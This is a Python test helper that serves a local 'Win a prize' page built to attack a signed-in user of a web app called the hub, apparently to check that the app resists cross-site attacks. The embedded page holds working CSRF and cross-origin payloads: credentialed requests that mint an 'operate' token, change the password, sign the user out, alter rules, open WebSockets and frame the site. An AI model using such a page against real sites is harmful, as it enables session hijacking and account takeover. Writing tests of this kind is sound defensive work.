"""A page of somebody else's, for a browser in which somebody is signed in."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

# Everything that a page may try without its reader doing anything.
_EVIL = """<!doctype html><title>Win a prize</title>
<form id=token method=post target=sink><input name=name value=stolen>
<input name=scope value=operate></form><iframe name=sink></iframe>
<form id=out method=post target=other></form><iframe name=other></iframe>
<iframe id=framed></iframe><script>
const hub = "HUB", had = [];
const line = (path) => new Promise((told) => {
    const socket = new WebSocket(hub.replace("http", "ws") + path);
    socket.onopen = () => had.push("a socket");
    socket.onmessage = () => had.push("samples");
    socket.onclose = told;
});
const read = (path) => fetch(hub + path, {credentials: "include"})
    .then(() => had.push(path), () => "");
const write = (path, said, mode) => fetch(hub + path, {
    method: "POST", credentials: "include", mode, body: new URLSearchParams(said),
}).then((answer) => answer.type === "opaque" || had.push(path), () => "");
const json = (path, method) => fetch(hub + path, {
    method, credentials: "include", body: "{}",
    headers: {"Content-Type": "application/json"},
}).then(() => had.push(path), () => "");
const sent = (form, path) => new Promise((told) => {
    document.getElementsByName(form.target)[0].onload = told;
    form.action = hub + path;
    form.submit();
});
const framed = document.getElementById("framed");
window.over = Promise.all([
    line("/ws"), line("/ws?machine=quiet&view=full"),
    read("/"), read("/api/machines"), read("/you/"), read("/alerts/open.json"),
    write("/you/tokens", {name: "stolen", scope: "operate"}, "no-cors"),
    write("/you/password", {new: "a long new password"}, "cors"),
    write("/sign-out/", {}, "no-cors"),
    json("/api/rules", "POST"), json("/api/rules/1", "DELETE"),
    sent(token, "/you/tokens"), sent(out, "/sign-out/"),
    new Promise((told) => { framed.onload = told; framed.src = hub + "/"; }),
]).then(() => had);
</script>"""


@contextmanager
def evil_site(hub: str) -> Iterator[int]:
    """Serve that page on a free port of this machine; yield the port."""
    content = _EVIL.replace("HUB", hub)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content.encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = Thread(target=partial(server.serve_forever, poll_interval=0.05))
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            thread.join()
